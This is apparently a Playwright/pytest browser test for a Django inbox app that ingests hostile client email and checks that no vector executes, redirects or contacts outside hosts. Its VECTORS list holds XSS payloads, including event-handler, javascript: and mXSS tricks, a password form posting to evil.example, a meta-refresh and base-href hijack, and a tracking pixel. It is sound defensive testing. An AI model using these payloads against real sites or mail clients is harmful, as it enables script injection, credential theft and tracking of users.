"""Hostile HTML in client mail never runs in a browser: every vector below is stored
through the real ingest paths and rendered on the thread page in Chromium."""

import pytest

from tests.browser.conftest import login
from tests.conftest import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

VECTORS = [
    "<script>window.__pwned = 'script'</script>",
    '<img src="x" onerror="window.__pwned = \'onerror\'">',
    '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
    '<a href="javascript:window.__pwned = \'href\'" id="evil-link">click me</a>',
    '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
    '<body onload="window.__pwned = \'body\'">',
    '<div style="background:url(javascript:window.__pwned=1)">styled</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<img src="https://tracker.example/pixel.gif" alt="tracking pixel">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="javascript:window.__pwned=1"></object><embed src="javascript:1">',
    '<base href="https://evil.example/">',
    "<details open ontoggle=\"window.__pwned='toggle'\">x</details>",
]


def test_no_vector_runs_or_phones_home(page, owner, ws_a, client_a):
    from ownup.inbox.ingest import message_ingest
    from ownup.inbox.models import Thread
    from ownup.inbox.services.messages import message_create

    body = "<p>Hello from the client.</p>" + "".join(VECTORS)
    message_create(workspace=ws_a, direction="inbound", sender="ellie@harbour.example",
                   subject="Hostile one", body_html=body, body_text="Hello")
    raw = ("From: Ellie <ellie@harbour.example>\r\nTo: team@a.example\r\n"
           "Subject: Hostile two\r\nMessage-ID: <hostile-2@harbour.example>\r\n"
           "Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
           "Content-Type: text/html; charset=utf-8\r\n\r\n" + body).encode()
    assert message_ingest(ws_a, raw) in ("imported", "unmatched")

    requested = []
    page.on("request", lambda r: requested.append(r.url))
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    login(page, "owner@a.example", PASSWORD)
    base = page.url.rstrip("/")
    for thread in Thread.objects.filter(subject__startswith="Hostile"):
        page.goto(f"{base}/inbox/{thread.pk}/")
        page.get_by_text("Hello from the client.").first.wait_for()
        if page.locator("#evil-link").count():
            page.locator("#evil-link").first.click()
        page.wait_for_timeout(300)
        assert page.evaluate("window.__pwned === undefined"), page.evaluate("window.__pwned")
        assert page.locator("main script").count() == 0
        assert page.locator("main iframe, main object, main embed, main form[action*=evil]"
                            ).count() == 0
        assert "/inbox/" in page.url  # no meta refresh, no base-href hijack
    assert dialogs == []
    assert not [u for u in requested if "evil.example" in u or "tracker.example" in u]
    assert requested  # the listener really saw the page's own requests
